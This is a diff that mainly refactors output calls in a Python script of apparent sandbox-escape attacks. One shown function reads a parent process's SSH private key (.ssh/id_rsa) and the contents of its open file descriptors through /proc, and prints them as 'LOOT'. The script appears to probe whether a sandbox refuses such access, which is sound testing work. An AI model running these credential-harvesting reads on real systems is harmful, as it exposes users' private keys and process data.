@@ -60,7 +60,8 @@ def call(number: int, *arguments: object) -> int:
 
 def tell(text: str | bytes) -> None:
     """Print something that was got hold of."""
-    print(LOOT, text if isinstance(text, str) else text.decode(errors="replace"), flush=True)
+    sys.stdout.write(f"{LOOT} {text if isinstance(text, str) else text.decode(errors='replace')}\n")
+    sys.stdout.flush()
 
 
 def each(*tries: object) -> None:
@@ -230,9 +231,9 @@ def read_parent_by_proc(at: Layout) -> None:
             lambda folder=folder: tell(Path(f"{folder}/cwd/.ssh/id_rsa").read_bytes()),
         )
         with contextlib.suppress(OSError):
-            for number in os.listdir(folder / "fd"):
+            for number in (folder / "fd").iterdir():
                 with contextlib.suppress(OSError):
-                    fd = os.open(folder / "fd" / number, os.O_RDONLY | os.O_NONBLOCK)
+                    fd = os.open(number, os.O_RDONLY | os.O_NONBLOCK)
                     tell(os.read(fd, 4096))
 
 
@@ -479,6 +480,6 @@ ATTACKS = {
 
 if __name__ == "__main__":
     try:
-        print("succeeded" if ATTACKS[sys.argv[1]](Layout(sys.argv[2])) else "done")
+        sys.stdout.write("succeeded\n" if ATTACKS[sys.argv[1]](Layout(sys.argv[2])) else "done\n")
     except (OSError, ValueError) as failure:
-        print("refused:", failure)
+        sys.stdout.write(f"refused: {failure}\n")
